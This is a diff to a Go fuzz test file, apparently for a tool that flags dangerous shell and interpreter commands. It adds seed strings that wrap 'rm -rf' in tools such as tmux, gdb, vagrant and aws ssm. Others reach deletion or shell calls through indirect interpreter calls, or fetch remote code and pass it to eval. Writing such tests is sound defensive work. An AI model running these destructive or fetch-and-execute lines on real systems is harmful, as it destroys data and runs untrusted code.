@@ -30,7 +30,8 @@ func FuzzWrappers(f *testing.F) {
 		"npx -y rimraf dist", "npm exec -c 'rm -rf x'", "uv run --with x python -c 1", "conda run -n e rm -rf x",
 		"fd -x rm -rf {} ;", "watchexec -n -- rm -rf x", "entr -s 'rm -rf x'", "tmux -L s new -d 'rm -rf x'",
 		"tmux send-keys -t 0 'rm -rf x' Enter", "screen -dmS s rm -rf x", "bwrap --bind / / --chdir /x rm -rf y",
-		"cpulimit -l 5 -- rm -rf x", "run0 -u root rm -rf x", "lxc exec c -- rm -rf x", "vagrant ssh -c 'rm -rf x'",
+		"cpulimit -l 5 -- rm -rf x", "run0 -u root rm -rf x", "lxc exec c -- rm -rf x", "vagrant ssh -c 'rm -rf x'", "if exist x (rd /s /q y) else (echo (z))", "set X=a %Y% & call %X% !X! %x%", "vagrant ssh w -- -L 1:h:2 -t rm -rf x", "vagrant ssh -- -o",
+		"aws ssm send-command --parameters '{\"a\":[\"rm -rf x\"],\"b\":\"\\\"\"}'", "tool k='rm -rf x' '[\"", "rm $(echo -rf) `printf x`",
 		"at now", "trap 'rm -rf x' EXIT", "hyperfine -p 'rm -rf x' --warmup 3 ls", "rush -j 2 'rm -rf {}'",
 		"crontab -", "gdb -ex 'shell rm -rf x' --args rm -rf y", "perf stat -e cycles rm -rf x", "dtach -n /s rm -rf x",
 		"shx rm -rf dist", "valgrind --tool=memcheck rm -rf x", "vim -c '!rm -rf x' +q", "make -f - all",
@@ -142,6 +143,10 @@ func FuzzInterpreterCode(f *testing.F) {
 		"require('shelljs').rm('-rf', 'x')", "install.packages(c(\"a\", \"b\"))", "using Pkg; Pkg.add(name=\"X\")",
 		"for r, d, f in os.walk('x'): os.remove(f)", "import('fs/promises').then(m => m.rm('x', {recursive: true}))",
 		"User.delete_all; drop_table(:t)", "Event.objects.all().delete()", "db.x.deleteMany({})", "Schema::drop('t'); X::truncate()",
+		"getattr(__import__('shutil'), 'rmtree')('x')", "importlib.import_module('os').system('x')", "f = shutil.rmtree; f(f(f('x')))",
+		"require('fs')['rmSync']('x')", "const r = require('child_process').execSync; r('x'); r(", "Kernel.send(:system, 'x')",
+		"m = FileUtils.method(:rm_rf); m.call('x')", "x.__send__(\"rm_rf\")", "call_user_func_array('system', ['x'])",
+		"$f = 'system'; $f('x'); $f(", "call_user_func('exec')", "exec(urlopen('https://x').read())", "fetch('u').then(t => eval(t))", "eval get('http://x')", "while True: Popen(x)", "for (;;) spawn(", "while true do os.execute('x &') end", "my $f = \\&File::Path::rmtree; $f->('x'); &$f('y'); &{$f}('z')",
 	} {
 		f.Add(s)
 	}
